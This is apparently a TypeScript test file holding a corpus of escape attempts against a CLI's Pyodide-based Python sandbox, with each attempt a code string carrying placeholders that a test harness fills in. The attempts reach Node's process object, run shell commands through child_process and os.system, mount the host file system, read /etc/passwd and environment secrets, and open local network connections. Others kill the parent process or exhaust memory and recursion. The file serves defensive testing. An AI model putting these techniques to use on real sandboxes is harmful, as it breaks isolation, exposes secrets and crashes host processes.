/**
 * Escape attempts against the CLI's Python sandbox, as data: each is a code block a hostile
 * dataset could carry. Placeholders, filled in by the test that runs them:
 *   @MARKER@      a host path the attempt tries to create (it must never exist)
 *   @URL@ @PORT@  a local TCP server the attempt tries to reach (it must get no connection)
 *   @SECRET_ENV@  the name of an environment variable set in the CLI's environment
 *   @SECRET_FILE@ a host file holding a secret (its content must never appear in any output)
 *   @HOME@        the host user's home directory
 * An attempt that gets hold of a capability prints "ESC" + "APED" (built at run time, so the
 * code itself never contains the word); the test also looks for the effects themselves.
 */

export interface EscapeAttempt {
  id: string;
  /** The route, for the report table. */
  route: 'js module' | 'run_js / eval' | 'pyodide_js API' | 'constructor chains' | 'file system' | 'processes' | 'network' | 'environment' | 'resources';
  code: string;
}

const got = (what: string) => `print("ESC" + "APED", "@ID@", ${what})`;

/** The text that marks an attempt as having got hold of something. */
export const ESCAPED = 'ESC' + 'APED';

export interface CorpusPlaces {
  /** Folder for the markers: an attempt's marker is <markerDir>/<id>. */
  markerDir: string;
  port: number;
  secretEnv: string;
  secretFile: string;
  home: string;
}

/** An attempt's code with its placeholders filled in. */
export function attemptCode(attempt: EscapeAttempt, places: CorpusPlaces): string {
  return attempt.code
    .replaceAll('@ID@', attempt.id)
    .replaceAll('@MARKER@', `${places.markerDir}/${attempt.id}`)
    .replaceAll('@URL@', `http://127.0.0.1:${places.port}/${attempt.id}`)
    .replaceAll('@PORT@', String(places.port))
    .replaceAll('@SECRET_ENV@', places.secretEnv)
    .replaceAll('@SECRET_FILE@', places.secretFile)
    .replaceAll('@HOME@', places.home);
}

export const ESCAPE_ATTEMPTS: EscapeAttempt[] = [
  // --- `import js`: the global object Pyodide exposes ---
  { id: 'js-process', route: 'js module', code: `import js\n${got('js.process.pid')}` },
  { id: 'js-from-process', route: 'js module', code: `from js import process\n${got('process.env')}` },
  { id: 'js-require', route: 'js module', code: `from js import require\nrequire("fs").writeFileSync("@MARKER@", "x")\n${got('"require"')}` },
  { id: 'js-globalThis', route: 'js module', code: `import js\ng = js.globalThis\n${got('g.process.env')}` },
  { id: 'js-getBuiltinModule', route: 'js module', code: `import js\njs.process.getBuiltinModule("child_process").execSync("touch @MARKER@")\n${got('"cp"')}` },
  { id: 'js-fetch', route: 'js module', code: `import js\njs.fetch("@URL@")\n${got('"fetch"')}` },
  { id: 'js-Function', route: 'js module', code: `import js\nf = js.Function("return process")\n${got('f().pid')}` },
  { id: 'js-eval', route: 'js module', code: `import js\n${got('js.eval("process.pid")')}` },
  { id: 'js-dir', route: 'js module', code: `import js\nnames = [n for n in dir(js) if not n.startswith("_") and n not in ("as_object_map", "as_py_json", "bind_class", "bind_sig", "js_id", "object_entries", "object_keys", "object_values", "to_py", "to_weakref", "typeof")]\nif names: ${got('names')}\nprint("js exposes", names)` },
  { id: 'js-object-keys', route: 'js module', code: `import js\nkeys = list(js.object_keys())\nif keys: ${got('keys')}\nprint("js keys", keys)` },
  { id: 'js-atomics', route: 'js module', code: `import js\njs.Atomics.wait(js.Int32Array.new(js.SharedArrayBuffer.new(4)), 0, 0)\n${got('"atomics"')}` },
  { id: 'js-webassembly', route: 'js module', code: `import js\n${got('js.WebAssembly')}` },
  { id: 'js-setattr', route: 'js module', code: `import js\njs.x = 1\n${got('js.x')}` },

  // --- run_js and every other way to turn a string into JavaScript ---
  { id: 'run_js-process', route: 'run_js / eval', code: `from pyodide.code import run_js\n${got('run_js("process.pid")')}` },
  { id: 'run_js-spawn', route: 'run_js / eval', code: `from pyodide.code import run_js\nrun_js("process.getBuiltinModule('child_process').execSync('touch @MARKER@')")\n${got('"run_js"')}` },
  { id: 'run_js-env', route: 'run_js / eval', code: `from pyodide.code import run_js\n${got('run_js("process.env.@SECRET_ENV@")')}` },
  { id: 'run_js-import-net', route: 'run_js / eval', code: `from pyodide.code import run_js\nrun_js("import('node:net').then(n => n.connect(@PORT@, '127.0.0.1'))")\n${got('"import"')}` },
  { id: 'pyodide_run_js', route: 'run_js / eval', code: `import pyodide._run_js as r\n${got('r.run_js("globalThis")')}` },
  { id: 'eval-via-proxy-constructor', route: 'run_js / eval', code: `import pyodide_js\nF = pyodide_js.runPython.constructor\n${got('F("return globalThis.process")().pid')}` },
  { id: 'async-function-constructor', route: 'run_js / eval', code: `import pyodide_js\nAF = pyodide_js.runPythonAsync.constructor\n${got('AF("return process")')}` },
  { id: 'import-data-url', route: 'run_js / eval', code: `import pyodide_js\nfor name in ["loadScript", "loadBinaryFile"]:\n    f = getattr(pyodide_js._api, name, None)\n    if f is not None:\n        f("data://text/javascript,process.getBuiltinModule('child_process').execSync('touch @MARKER@')")\nprint("tried")` },
  { id: 'wasm-compile-js', route: 'run_js / eval', code: `import pyodide_js\nM = pyodide_js._module\nM.runEmAsmFunction(0, 0, 0)\n${got('"emasm"')}` },

  // --- pyodide_js: the Pyodide API object, its Emscripten module, the file system ---
  { id: 'pyodide_js-process', route: 'pyodide_js API', code: `import pyodide_js\nfor obj in [pyodide_js, pyodide_js._module, pyodide_js._api, pyodide_js._api.config]:\n    p = getattr(obj, "process", None)\n    if p is not None: ${got('p')}\nprint("none")` },
  { id: 'nodefs-mount-root', route: 'pyodide_js API', code: `import pyodide_js\nFS = pyodide_js.FS\nFS.mkdir("/host")\nFS.mount(FS.filesystems.NODEFS, {"root": "/"}, "/host")\n${got('open("/host@SECRET_FILE@").read()')}` },
  { id: 'nodefs-module', route: 'pyodide_js API', code: `import pyodide_js\nM = pyodide_js._module\nM.FS.mkdir("/h2")\nM.FS.mount(M.NODEFS, {"root": "@HOME@"}, "/h2")\n${got('M.FS.readdir("/h2")')}` },
  { id: 'mountNodeFS-home', route: 'pyodide_js API', code: `import pyodide_js\npyodide_js.mountNodeFS("/h3", "@HOME@")\n${got('__import__("os").listdir("/h3")')}` },
  { id: 'mountNodeFS-write', route: 'pyodide_js API', code: `import pyodide_js, os\npyodide_js.mountNodeFS("/h4", os.path.dirname("@MARKER@"))\nopen("/h4/" + os.path.basename("@MARKER@"), "w").write("x")\n${got('"mounted"')}` },
  { id: 'nodefs-any-filesystem', route: 'pyodide_js API', code: `import pyodide_js\nfs = pyodide_js.FS.filesystems\nfor name in fs.object_keys():\n    try:\n        pyodide_js.FS.mkdir("/m_" + name)\n        pyodide_js.FS.mount(getattr(fs, name), {"root": "/"}, "/m_" + name)\n        if "@SECRET_FILE@".lstrip("/").split("/")[0] in __import__("os").listdir("/m_" + name): ${got('name')}\n    except Exception as e:\n        print(name, type(e).__name__)` },
  { id: 'loadPackage-url', route: 'pyodide_js API', code: `import pyodide_js\npyodide_js.loadPackage("@URL@/evil-1.0-py3-none-any.whl")\nprint("requested")` },
  { id: 'loadPackage-file', route: 'pyodide_js API', code: `import pyodide_js\npyodide_js.loadPackage("@SECRET_FILE@")\nprint("requested")` },
  { id: 'loadPackagesFromImports', route: 'pyodide_js API', code: `import pyodide_js\npyodide_js.loadPackagesFromImports("import numpy")\nprint("requested")` },
  { id: 'api-loadBinaryFile', route: 'pyodide_js API', code: `import pyodide_js\np = pyodide_js._api.loadBinaryFile("@URL@")\np2 = pyodide_js._api.loadBinaryFile("@SECRET_FILE@")\nprint("requested")` },
  { id: 'module-asyncLoad', route: 'pyodide_js API', code: `import pyodide_js\nfrom pyodide.ffi import create_proxy\nshow = create_proxy(lambda data: print(bytes(data.to_py())))\npyodide_js._module.asyncLoad("@SECRET_FILE@").then(show)\npyodide_js._module.asyncLoad("@URL@")\nprint("requested")` },
  { id: 'module-wget', route: 'pyodide_js API', code: `import pyodide_js\npyodide_js._module.wget("@URL@")\nprint("requested")` },
  { id: 'module-loadDynamicLibrary', route: 'pyodide_js API', code: `import pyodide_js\npyodide_js._module.loadDynamicLibrary("@URL@/x.so", {"loadAsync": True})\nprint("requested")` },
  { id: 'module-websocket', route: 'pyodide_js API', code: `import pyodide_js\nM = pyodide_js._module\nsock = M.SOCKFS.createSocket(2, 1, 0)\nsock.sock_ops.connect(sock, "127.0.0.1", @PORT@)\nprint("requested")` },
  { id: 'emscripten-system', route: 'pyodide_js API', code: `import pyodide_js\nM = pyodide_js._module\nptr = M.stringToNewUTF8("touch @MARKER@")\nM.__emscripten_system(ptr)\n${got('"system"')}` },
  { id: 'module-reinit', route: 'pyodide_js API', code: `import pyodide_js\nexports = pyodide_js._module.LDSO.loadedLibsByName.object_values()\nfor lib in exports:\n    init = getattr(lib.exports, "pyodide_js_init", None)\n    if init is not None: init()\nprint("reinit")` },
  { id: 'registerJsModule', route: 'pyodide_js API', code: `import pyodide_js\npyodide_js.registerJsModule("escape", pyodide_js._api)\nimport escape\n${got('escape.config.jsglobals.process')}` },
  { id: 'setStdout-host', route: 'pyodide_js API', code: `import pyodide_js, os\npyodide_js.setStdout()\nos.write(1, b"STDOUT-LEAK-" + os.environ.get("@SECRET_ENV@", "none").encode())\nprint("written")` },
  { id: 'api-config', route: 'pyodide_js API', code: `import pyodide_js\nc = pyodide_js._api.config\n${got('c.jsglobals.process')}` },
  { id: 'interrupt-buffer', route: 'pyodide_js API', code: `import pyodide_js\npyodide_js.setInterruptBuffer(pyodide_js._module.HEAP8)\nwhile True:\n    pass` },

  // --- constructor chains and V8 stack-trace tricks to the global object ---
  { id: 'constructor-chain', route: 'constructor chains', code: `import pyodide_js\nF = pyodide_js.constructor.constructor\n${got('F("return this")().process')}` },
  { id: 'constructor-chain-js', route: 'constructor chains', code: `import js\n${got('js.constructor.constructor("return process")()')}` },
  { id: 'prototype-getters', route: 'constructor chains', code: `import pyodide_js\nO = pyodide_js.constructor\nfor obj in [pyodide_js, pyodide_js._module, pyodide_js._api, pyodide_js.FS]:\n    proto = O.getPrototypeOf(obj)\n    while proto is not None:\n        for k in O.getOwnPropertyNames(proto):\n            try:\n                v = getattr(obj, k)\n            except Exception:\n                continue\n            if getattr(v, "getBuiltinModule", None) is not None: ${got('k')}\n        proto = O.getPrototypeOf(proto)\nprint("walked")` },
  { id: 'prepareStackTrace', route: 'constructor chains', code: `import pyodide_js\nfrom pyodide.ffi import create_proxy\ntry:\n    pyodide_js.FS.readFile("/no/such/file")\nexcept Exception as e:\n    err = e.js_error\nO = pyodide_js.constructor\nErr = err.constructor\nwhile getattr(Err, "name", "") != "Error":\n    Err = O.getPrototypeOf(Err)\nseen = []\ndef prep(error, frames):\n    for f in frames:\n        seen.append((f.getThis(), f.getFunction()))\n    return "x"\nErr.prepareStackTrace = create_proxy(prep)\ntry:\n    pyodide_js.FS.readFile("/no/such/file/2")\nexcept Exception as e2:\n    str(e2.js_error.stack)\nfor this, fn in seen:\n    if this is not None and getattr(this, "process", None) is not None: ${got('"this"')}\nprint("frames", len(seen))` },
  { id: 'error-capture', route: 'constructor chains', code: `import pyodide_js\ntry:\n    pyodide_js.FS.readFile("/nope")\nexcept Exception as e:\n    j = e.js_error\n    Err = j.constructor\n    while getattr(Err, "name", "") != "Error":\n        Err = pyodide_js.constructor.getPrototypeOf(Err)\n    holder = pyodide_js.constructor.new()\n    Err.captureStackTrace(holder)\n    print(str(holder.stack)[:200])\n    if "@SECRET_ENV@" in str(holder.stack): ${got('"stack"')}` },
  { id: 'function-caller', route: 'constructor chains', code: `import pyodide_js\nfrom pyodide.ffi import create_proxy\nfound = []\ndef cb(*a):\n    try:\n        found.append(pyodide_js.runPython.caller)\n    except Exception as e:\n        found.append(type(e).__name__)\nf = create_proxy(cb)\npyodide_js._module.callUserCallback(f)\nprint(found)` },

  // --- the file system of the host ---
  { id: 'open-secret-file', route: 'file system', code: `${got('open("@SECRET_FILE@").read()')}` },
  { id: 'open-etc-passwd', route: 'file system', code: `print(open("/etc/passwd").read()[:300])` },
  { id: 'write-marker', route: 'file system', code: `open("@MARKER@", "w").write("written by model code")\nimport os\nprint(os.path.exists("@MARKER@"), "(inside the interpreter's own memory)")` },
  { id: 'listdir-home', route: 'file system', code: `import os\nprint(os.listdir("/"))\n${got('os.listdir("@HOME@")')}` },
  { id: 'proc-environ', route: 'file system', code: `${got('open("/proc/self/environ").read()')}` },
  { id: 'ctypes-fopen', route: 'file system', code: `import ctypes\nlibc = ctypes.CDLL(None)\nf = libc.fopen(b"@MARKER@", b"w")\nprint("fopen", f)` },

  // --- processes: run a program, signal the CLI ---
  { id: 'os-system', route: 'processes', code: `import os\nrc = getattr(os, "sys" + "tem")("touch @MARKER@")\nprint("rc", rc)` },
  { id: 'subprocess-run', route: 'processes', code: `import subprocess\nsubprocess.run(["touch", "@MARKER@"])\n${got('"subprocess"')}` },
  { id: 'os-popen', route: 'processes', code: `import os\nprint(os.popen("touch @MARKER@; echo ran").read())` },
  { id: 'ctypes-system', route: 'processes', code: `import ctypes\nlibc = ctypes.CDLL(None)\nprint("rc", libc.system(b"touch @MARKER@"))` },
  { id: 'os-kill-parent', route: 'processes', code: `import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nprint("sent")` },
  { id: 'js-kill-parent', route: 'processes', code: `import js\njs.process.kill(js.process.ppid, 9)\n${got('"kill"')}` },
  { id: 'os-exit', route: 'processes', code: `import os\nos._exit(3)` },
  { id: 'threads', route: 'processes', code: `import threading\nt = threading.Thread(target=lambda: open("@MARKER@", "w"))\nt.start()\n${got('"thread"')}` },
  { id: 'multiprocessing', route: 'processes', code: `import multiprocessing\np = multiprocessing.Process(target=print)\np.start()\n${got('"process"')}` },

  // --- network ---
  { id: 'socket-connect', route: 'network', code: `import socket\ns = socket.create_connection(("127.0.0.1", @PORT@), timeout=2)\ns.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\n${got('"socket"')}` },
  { id: 'urllib', route: 'network', code: `import urllib.request\n${got('urllib.request.urlopen("@URL@", timeout=2).read()')}` },
  { id: 'http-client', route: 'network', code: `import http.client\nc = http.client.HTTPConnection("127.0.0.1", @PORT@, timeout=2)\nc.request("GET", "/")\n${got('c.getresponse().status')}` },
  { id: 'pyodide-http-open_url', route: 'network', code: `from pyodide.http import open_url\n${got('open_url("@URL@").read()')}` },
  { id: 'pyfetch', route: 'network', code: `import asyncio\nfrom pyodide.http import pyfetch\nasyncio.ensure_future(pyfetch("@URL@"))\nprint("scheduled")` },
  { id: 'webbrowser', route: 'network', code: `import webbrowser\nprint(webbrowser.open("@URL@"))` },
  { id: 'socket-listen', route: 'network', code: `import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 0))\ns.listen()\n${got('s.getsockname()')}` },

  // --- the environment of the CLI ---
  { id: 'os-environ', route: 'environment', code: `import os\nprint(dict(os.environ))\nif "@SECRET_ENV@" in os.environ: ${got('os.environ["@SECRET_ENV@"]')}` },
  { id: 'getenv', route: 'environment', code: `import os\nprint(os.getenv("@SECRET_ENV@"), os.getenv("HOME"), os.getenv("PATH"))` },
  { id: 'module-env', route: 'environment', code: `import pyodide_js\nprint(pyodide_js._module.ENV.object_entries() if hasattr(pyodide_js._module.ENV, "object_entries") else pyodide_js._module.ENV)\nprint(pyodide_js._api.config.env)` },

  // --- resources: the CLI must survive these ---
  { id: 'huge-print', route: 'resources', code: `print("x" * 300_000_000)` },
  { id: 'huge-exception', route: 'resources', code: `raise ValueError("y" * 300_000_000)` },
  { id: 'memory-bomb', route: 'resources', code: `blocks = []\nwhile True:\n    blocks.append(bytearray(100 * 1024 * 1024))` },
  { id: 'js-heap-bomb', route: 'resources', code: `from pyodide.ffi import to_js\nkeep = []\nwhile True:\n    keep.append(to_js(list(range(10_000_000))))` },
  { id: 'deep-recursion', route: 'resources', code: `import sys\nsys.setrecursionlimit(10**6)\ndef f(n):\n    return f(n + 1)\nf(0)` },
  { id: 'c-stack-overflow', route: 'resources', code: `import sys\nsys.setrecursionlimit(10**6)\nclass A:\n    def __getattr__(self, name):\n        return getattr(self, name)\nA().x` },
  { id: 'fork-bomb-ish', route: 'resources', code: `import os\nfor _ in range(100):\n    try:\n        os.fork()\n    except Exception as e:\n        print(type(e).__name__)\n        break` },
];
